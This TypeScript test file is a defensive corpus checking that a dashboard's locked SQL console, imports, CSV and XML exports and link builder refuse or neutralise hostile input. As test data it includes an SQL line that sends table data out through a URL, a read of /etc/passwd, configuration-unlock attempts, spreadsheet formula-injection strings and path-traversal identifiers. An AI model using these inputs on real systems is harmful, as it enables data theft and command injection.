/**
 * The hostile-input corpus (issue 15, everything but loaded data files): SQL links, observation
 * imports, formula prefixes, characters XML forbids, identifiers made into links, a browser that keeps
 * nothing. Each case states its exact outcome: refused with this message and the tables unchanged, or
 * accepted with exactly these values. (Data files have their own corpus beside the loader.)
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Connector } from '$lib/db/connector';
import { CONSOLE_SETTINGS } from '$lib/db/console-settings';
import { createNodeConnector } from '$lib/db/node';
import { csvCell } from '$lib/export/csv';
import { escapeXml, xmlSafe } from '$lib/export/text';
import { ConsoleSession, type ConsoleSource } from '$lib/model/console';
import { parseObservationsFile, toCsv } from '$lib/observations/formats';
import { browserKeyValue, storage } from '$lib/state/storage.svelte';
import { bundledDb } from '$lib/testing/bundled-db';
import { queryString, routePath } from '$lib/ui/link';
import { LoadError } from '$lib/data/raw';
import { translate } from '$lib/i18n/locale.svelte';

describe('SQL links: run on the console’s locked copy, refused or confined there', () => {
	let main: Connector;
	let session: ConsoleSession;
	let source: ConsoleSource;
	let fingerprint: () => Promise<unknown>;
	let before: unknown;
	beforeAll(async () => {
		main = await bundledDb();
		source = { conn: main, version: 1 };
		session = new ConsoleSession(async () => {
			const c = await createNodeConnector();
			for (const s of CONSOLE_SETTINGS) await c.exec(s);
			return c;
		});
		fingerprint = () =>
			main.query(
				"SELECT (SELECT count(*) FROM states) AS states, (SELECT sum(value) FROM indicator_values) AS values, (SELECT count(*) FROM duckdb_tables()) AS tables, (SELECT count(*) FROM deadlines) AS deadlines"
			);
		before = await fingerprint();
	});
	afterAll(async () => {
		await session.close();
		await main.close();
	});

	const denied = (what: string) => `Permission Error: Cannot access file "${what}" - file system operations are disabled by configuration`;
	const locked = (name: string) => `Invalid Input Error: Cannot change configuration option "${name}" - the configuration has been locked`;

	it.each([
		['the exfiltration link', "SET VARIABLE u=(SELECT 'http://127.0.0.1:4318/x.csv?d='||string_agg(iso3,'-') FROM (SELECT iso3 FROM states ORDER BY iso3 LIMIT 2)); SELECT * FROM read_csv(getvariable('u'))", denied('http://127.0.0.1:4318/x.csv?d=AFG-AGO')],
		['read_csv of a web address', "SELECT * FROM read_csv('https://example.org/x.csv')", denied('https://example.org/x.csv')],
		['read_text of a local file', "SELECT * FROM read_text('/etc/passwd')", denied('/etc/passwd')],
		['glob', "SELECT * FROM glob('*')", denied('*')],
		['sniff_csv', "SELECT * FROM sniff_csv('data.csv')", denied('data.csv')],
		['ATTACH a file', "ATTACH 'other.db' AS other", denied('other.db')],
		['COPY … TO', "COPY states TO 'states.csv'", denied('states.csv')],
		['EXPORT DATABASE', "EXPORT DATABASE 'out'", denied('out/actions.csv')],
		['LOAD httpfs', 'LOAD httpfs', 'Permission Error: Loading external extensions is disabled through configuration'],
		['switching external access back on', 'SET enable_external_access = true', locked('enable_external_access')],
		['RESET of the lock-down', 'RESET enable_external_access', locked('enable_external_access')],
		['unlocking the configuration', 'SET lock_configuration = false', locked('lock_configuration')],
		['turning extension autoloading on', 'SET autoload_known_extensions = true', locked('autoload_known_extensions')],
		['allowing a directory', "SET allowed_directories = ['/']", locked('allowed_directories')]
	])('%s is refused: %s', async (_, sql, message) => {
		const error = await session.run(sql, source).then(
			() => null,
			(e: Error) => e.message.split('\n')[0]
		);
		expect(error).toBe(message);
		expect(await fingerprint()).toEqual(before);
	});

	it.each([
		['a temporary table shadowing indicator_values', 'CREATE TEMP TABLE indicator_values AS SELECT * REPLACE (value*10 AS value) FROM main.indicator_values', 'indicator_values'],
		['DELETE', 'DELETE FROM deadlines', 'deadlines'],
		['UPDATE', "UPDATE states SET name = 'x'", 'states']
	])('%s runs on the copy only, on every row of it; the loaded tables are unchanged', async (_, sql, table) => {
		const r = await session.run(sql, source);
		expect(r.rows).toEqual(await main.query(`SELECT count(*)::BIGINT AS "Count" FROM ${table}`));
		expect(await fingerprint()).toEqual(before);
	});

	it.each([
		['DROP TABLE', 'DROP TABLE states'],
		['ATTACH of a memory database', "ATTACH ':memory:' AS scratch"]
	])('%s runs on the copy only, answering no rows; the loaded tables are unchanged', async (_, sql) => {
		expect((await session.run(sql, source)).rows).toEqual([]);
		expect(await fingerprint()).toEqual(before);
	});
});

describe('observation imports: wrong types refused with file, row and column; values kept exactly', () => {
	const row = (o: Record<string, unknown> = {}) => ({ meeting: 'IM2024', committee: 'article5', iso3: 'KHM', action: null, assessment: null, status: 'draft', text: 'ok', updated_at: null, author: null, ...o });
	const json = (...rows: object[]) => JSON.stringify({ format: 'oap-preliminary-observations', version: 1, rows });
	const issues = (name: string, text: string) => {
		try {
			parseObservationsFile(name, text);
		} catch (e) {
			// Issues are codes with parameters; the English catalogue words them as the reader reads them.
			if (e instanceof LoadError) return e.issues.map(({ file, row, column, rule, params }) => ({ file, row, column, message: translate('en', `problem.${rule}`, params) }));
			throw e;
		}
		return [];
	};

	it.each([
		['text as an object', json(row({ text: { en: 'x' } })), [{ file: 'f.json', row: 2, column: 'text', message: 'expected text, found an object' }]],
		['text as a list', json(row({ text: ['a'] })), [{ file: 'f.json', row: 2, column: 'text', message: 'expected text, found a list' }]],
		['action as text', json(row({ action: '18', assessment: 'progress' })), [{ file: 'f.json', row: 2, column: 'action', message: 'expected a number, found text' }]],
		['status as true/false', json(row({ status: true })), [{ file: 'f.json', row: 2, column: 'status', message: 'expected text, found true/false' }]],
		['meeting as a number', json(row({ meeting: 2024 })), [{ file: 'f.json', row: 2, column: 'meeting', message: 'expected text, found a number' }]],
		['a row that is not an object', JSON.stringify({ rows: [row(), 'x'] }), [{ file: 'f.json', row: 3, column: null, message: 'each row must be an object of column: value' }]],
		['rows that are not a list', JSON.stringify({ rows: {} }), [{ file: 'f.json', row: null, column: null, message: 'expected a “rows” array' }]],
		['another format', JSON.stringify({ format: 'evil', rows: [] }), [{ file: 'f.json', row: null, column: null, message: 'not a file of preliminary observations (format “evil”)' }]],
		['a newer version', JSON.stringify({ format: 'oap-preliminary-observations', version: 99, rows: [] }), [{ file: 'f.json', row: null, column: null, message: 'written by a newer version of the dashboard (version 99)' }]]
	])('%s is refused', (_, text, expected) => {
		expect(issues('f.json', text)).toEqual(expected);
	});

	it.each([
		['a formula-like meeting written by the app', { meeting: '=1+2' }],
		['a tab-prefixed note', { action: 3, assessment: 'concern', text: '\tnote' }],
		['an author starting with @', { author: '@cmd' }],
		['a text with apostrophes before =', { text: "''=1" }],
		['a text with a control character', { text: 'Cam\u0001bodia' }]
	])('%s comes back exactly through CSV', (_, values) => {
		const written = row(values);
		const back = parseObservationsFile('round.csv', toCsv([written as never]));
		expect(back).toEqual([written]);
	});
});

describe('formula prefixes: every CSV cell a spreadsheet would run is written as text', () => {
	it.each([
		['=1+2', "'=1+2"],
		['+cmd|x', `"'+cmd|x"`],
		['-2+3+cmd', "'-2+3+cmd"],
		['@SUM(A1)', "'@SUM(A1)"],
		['\t=1', `"'\t=1"`],
		['\r=1', `"'\r=1"`],
		["'=1", "''=1"],
		['=1,2', `"'=1,2"`],
		['-5', '-5'],
		['+1.5e3', '+1.5e3']
	])('%j → %j', (value, cell) => {
		expect(csvCell(value)).toBe(cell);
	});
});

describe('characters XML forbids never reach an XML export', () => {
	it.each([
		['Cam\u0001bodia', 'Cambodia'],
		['a\u000Bb\u000Cc', 'abc'],
		['x\uFFFEy\uFFFFz', 'xyz'],
		['lone \uD800 high, lone \uDC00 low', 'lone  high, lone  low'],
		['pair 😀 kept', 'pair 😀 kept'],
		['<b> & "q"\u0002', '&lt;b&gt; &amp; &quot;q&quot;']
	])('%j → %j', (text, out) => {
		expect(text.includes('<') ? escapeXml(text) : xmlSafe(text)).toBe(out);
	});
});

describe('identifiers from data made into links stay one segment or one value', () => {
	it.each([
		['/countries/[iso3]', { iso3: '../../sql?q=DROP TABLE states' }, {}, '/countries/..%2F..%2Fsql%3Fq%3DDROP%20TABLE%20states'],
		['/countries/[iso3]', { iso3: 'A/B#C' }, {}, '/countries/A%2FB%23C'],
		['/countries/[iso3]/brief', { iso3: 'KHM' }, { year: 2023, baseline: '2019&q=x' }, '/countries/KHM/brief?year=2023&baseline=2019%26q%3Dx'],
		['/committees/[id]/draft', { id: 'article5' }, { meeting: 'IM2024#top', state: 'KHM' }, '/committees/article5/draft?meeting=IM2024%23top&state=KHM'],
		['/sql', {}, { q: "SELECT 1 WHERE 'a'='b' --" }, "/sql?q=SELECT+1+WHERE+%27a%27%3D%27b%27+--"]
	])('%s with %j %j → %s', (route, params, query, href) => {
		expect(routePath(route, params) + queryString(query)).toBe(href);
	});
});

describe('a browser that keeps nothing', () => {
	it('keeps values in the tab, reads them back exactly, and says so', async () => {
		const kv = browserKeyValue('corpus', 'items');
		await kv.set('a', { text: 'kept' });
		await kv.update<number>('n', (old) => (old ?? 0) + 1);
		await kv.update<number>('n', (old) => (old ?? 0) + 1);
		expect(await kv.get('a')).toEqual({ text: 'kept' });
		expect(await kv.values()).toEqual([{ text: 'kept' }, 2]);
		await kv.del('a');
		expect(await kv.values()).toEqual([2]);
		expect(storage.status).toBe('tab');
		expect(storage.reason).toBe('no_indexeddb');
	});
});
